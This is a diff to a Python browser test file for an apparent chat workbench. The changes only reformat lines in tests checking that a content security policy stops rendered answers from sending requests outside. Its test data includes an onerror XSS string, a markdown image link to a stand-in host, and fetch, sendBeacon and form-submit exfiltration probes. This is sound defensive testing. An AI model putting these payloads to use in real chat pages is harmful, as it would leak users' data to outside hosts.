@@ -68,7 +68,9 @@ WAYS = (
 )
 EVERYTHING = "\n\n".join(WAYS).format(HOST)
 NAME = "<img src=x onerror=alert(1)> ![x](http&colon;ways-out.example) ${1} $x^2$ %2F #frag.png"
-FORBIDDEN = "img[srcset], iframe, object, embed, form, base, link[rel=prefetch], meta[http-equiv], svg image, style, script"
+FORBIDDEN = (
+    "img[srcset], iframe, object, embed, form, base, link[rel=prefetch], meta[http-equiv], svg image, style, script"
+)
 
 
 class Outside:
@@ -152,7 +154,9 @@ def test_a_picture_within_an_answer_is_shown(person, workbench_url, model_says, 
     me = person(workbench_url).arrive()
     me.send("Hello!")
     me.finished()
-    assert me.page.locator("#chat .answer img").evaluate("image => image.decode().then(() => image.naturalWidth)") == 256
+    assert (
+        me.page.locator("#chat .answer img").evaluate("image => image.decode().then(() => image.naturalWidth)") == 256
+    )
 
 
 @pytest.mark.parametrize(
@@ -166,7 +170,8 @@ def test_a_picture_within_an_answer_is_shown(person, workbench_url, model_says, 
         f"fetch('{HOST}/5').catch(() => {{}})",
         f"navigator.sendBeacon('{HOST}/6')",
         "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')",
-        f"(() => {{ const form = document.createElement('form'); form.action = '{HOST}/7'; document.body.append(form); form.submit(); }})()",
+        f"(() => {{ const form = document.createElement('form'); form.action = '{HOST}/7';"
+        " document.body.append(form); form.submit(); })()",
     ],
 )
 def test_what_got_into_the_page_all_the_same_is_stopped_by_the_policy(browser, workbench_url, way):
@@ -213,5 +218,5 @@ def test_without_the_policy_it_would_leave(browser, serve_page, demo_engine, mon
         me.page.evaluate(f"document.body.append(Object.assign(new Image(), {{src: '{HOST}/1.png'}}))")
         me.page.wait_for_timeout(400)
         me.leave()
-    with pytest.raises(AssertionError, match="1.png"):
+    with pytest.raises(AssertionError, match=r"1\.png"):
         assert outside.requests == []
